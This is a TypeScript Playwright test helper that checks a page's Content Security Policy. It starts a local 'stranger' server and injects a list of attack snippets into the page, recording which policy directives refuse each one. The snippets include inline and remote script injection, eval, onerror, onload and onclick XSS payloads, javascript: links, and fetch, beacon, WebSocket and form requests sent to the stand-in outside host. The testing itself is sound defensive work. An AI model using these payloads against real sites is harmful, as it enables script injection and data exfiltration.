import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame } from 'playwright-core';

/** A server of somebody else on this machine: what it is asked for has left a page. */
export class Stranger implements AsyncDisposable {
  readonly url: string;
  readonly asked: string[];
  readonly #server: Server;

  private constructor(server: Server, asked: string[]) {
    this.#server = server;
    this.asked = asked;
    this.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  }

  static async open(): Promise<Stranger> {
    const asked: string[] = [];
    const server = createServer(({ url = '' }, response) => {
      asked.push(url);
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('window.pwned = "remote"');
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    return new Stranger(server, asked);
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((closed) => this.#server.close(closed));
  }
}

/**
 * Each tries one thing that a page must not do; `at` is the address of the stranger. What it names is the directive of the policy that has to refuse
 * it. Written as text: it runs in the page.
 */
const ATTACKS: readonly (readonly [name: string, directive: string, code: string])[] = [
  ['an inline script', 'script-src-elem', `add('script', { textContent: 'window.pwned = "inline"' })`],
  ['a script from elsewhere', 'script-src-elem', `add('script', { src: at + '/script.js' })`],
  ['a module from elsewhere', 'script-src-elem', `import(at + '/module.js').catch(() => {})`],
  ['a script in its own address', 'script-src-elem', `add('script', { src: 'data:text/javascript,window.pwned="data"' })`],
  ['a script out of memory', 'script-src-elem', `add('script', { src: URL.createObjectURL(new Blob(['window.pwned="blob"'])) })`],
  ['a script with a guessed nonce', 'script-src-elem', `add('script', { nonce: 'AAAA', textContent: 'window.pwned = "nonce"' })`],
  ['eval', 'script-src', `quietly(() => eval('window.pwned = "eval"'))`],
  ['a function out of text', 'script-src', `quietly(() => new Function('window.pwned = "function"')())`],
  ['a timer with text', 'script-src', `quietly(() => setTimeout('window.pwned = "timer"', 0))`],
  [
    'a listener in markup',
    'script-src-attr',
    `(add('div', { innerHTML: '<b onclick="window.pwned=1">x</b>' }), document.querySelector('b[onclick]').click())`,
  ],
  ['a picture that fails, with a listener', 'script-src-attr', `add('div', { innerHTML: '<img src="data:," onerror="window.pwned=2">' })`],
  ['a drawing with a listener', 'script-src-attr', `add('div', { innerHTML: '<svg onload="window.pwned=3"></svg>' })`],
  ['a link that is a script', 'script-src-elem', `add('a', { href: 'javascript:window.pwned=4' }).click()`],
  ['a style', 'style-src-elem', `add('style', { textContent: 'body { background: url(' + at + '/style.png) }' })`],
  ['a style from elsewhere', 'style-src-elem', `add('link', { rel: 'stylesheet', href: at + '/style.css' })`],
  ['a style in markup', 'style-src-attr', `add('div', { innerHTML: '<p style="background: url(' + at + '/attribute.png)">x</p>' })`],
  ['a picture from elsewhere', 'img-src', `add('img', { src: at + '/picture.png' })`],
  ['a style property with a picture', 'img-src', `(document.body.style.background = 'url(' + at + '/property.png)')`],
  ['a film', 'media-src', `add('video', { src: at + '/film.mp4' })`],
  ['a font', 'font-src', `new FontFace('x', 'url(' + at + '/font.woff)').load().catch(() => {})`],
  ['a request', 'connect-src', `fetch(at + '/fetch', { mode: 'no-cors' }).catch(() => {})`],
  ['a request of old', 'connect-src', `quietly(() => { const r = new XMLHttpRequest(); r.open('POST', at + '/xhr'); r.send('x'); })`],
  ['a beacon', 'connect-src', `navigator.sendBeacon(at + '/beacon', 'x')`],
  ['events', 'connect-src', `quietly(() => new EventSource(at + '/events'))`],
  ['a socket', 'connect-src', `quietly(() => new WebSocket(at.replace('http', 'ws') + '/socket'))`],
  ['a frame', 'frame-src', `add('iframe', { src: at + '/frame' })`],
  ['a frame with markup', 'frame-src', `add('iframe', { src: 'data:text/html,<script>top.pwned=1</script>' })`],
  ['an object', 'object-src', `add('object', { data: at + '/object' })`],
  ['an embedded thing', 'object-src', `add('embed', { src: at + '/embed' })`],
  ['a worker', 'worker-src', `quietly(() => new Worker(URL.createObjectURL(new Blob(['fetch("' + at + '/worker")']))))`],
  ['another base', 'base-uri', `add('base', { href: at + '/' })`],
  ['a form', 'form-action', `add('form', { action: location.origin + '/form', method: 'post' }).submit()`],
];

/** What became of one attack. */
export interface Attacked {
  readonly name: string;
  /** Directive that has to refuse it. */
  readonly directive: string;
  /** Directives that did, by the page's own `securitypolicyviolation` events. */
  readonly refusedBy: readonly string[];
  /** What the attack has left behind where it ran; undefined where it did not. */
  readonly ran: unknown;
}

/** Has a page try all that it must not do, from its own context, one thing after the other. */
export async function attack(frame: Frame, stranger: Stranger): Promise<Attacked[]> {
  const results: Attacked[] = [];
  for (const [name, directive, code] of ATTACKS) {
    const { refusedBy, ran } = await frame.evaluate<{ refusedBy: string[]; ran: unknown }>(`(async () => {
      const at = ${JSON.stringify(stranger.url)};
      const add = (tag, properties, parent = document.body) => parent.appendChild(Object.assign(document.createElement(tag), properties));
      const quietly = (work) => { try { work(); } catch {} };
      const refusedBy = [];
      const hear = ({ effectiveDirective }) => refusedBy.push(effectiveDirective);
      document.addEventListener('securitypolicyviolation', hear);
      // Out of the hands of the debugger, by whose grace eval is allowed.
      setTimeout(() => { ${code}; }, 0);
      // Refusals are told in tasks of their own: several frames and timers are enough for all of them, or none comes.
      for (let turn = 0; turn < 50 && refusedBy.length === 0; turn++) await new Promise((done) => setTimeout(done, 20));
      document.removeEventListener('securitypolicyviolation', hear);
      return { refusedBy, ran: window.pwned };
    })()`);
    results.push({ name, directive, refusedBy: [...new Set(refusedBy)], ran });
  }
  return results;
}

/** Has a page send a form to the stranger: what its own policy refuses, that of the frame around it refuses once more, and the page is gone. */
export async function leave(frame: Frame, stranger: Stranger): Promise<void> {
  const refused = frame.page().waitForEvent('console', { predicate: (message) => message.text().includes("frame-src 'self'") });
  await frame.evaluate(`setTimeout(() => {
    document.body.appendChild(Object.assign(document.createElement('form'), { action: '${stranger.url}/form', method: 'post' })).submit();
  }, 0)`);
  await refused;
}

/** The page's elements that could run something or ask for something, as markup; there are no others than its own script and style. */
export async function foreignElements(frame: Frame): Promise<string[]> {
  return await frame.evaluate<string[]>(`[...document.querySelectorAll('*')]
    .filter((element) => [...element.attributes].some(({ name, value }) => /^on/i.test(name) || /^\\s*javascript:/i.test(value)) ||
      element.matches('img, iframe, object, embed, form, base, video, audio, meta[http-equiv=refresh], a[href]'))
    .map((element) => element.outerHTML)`);
}
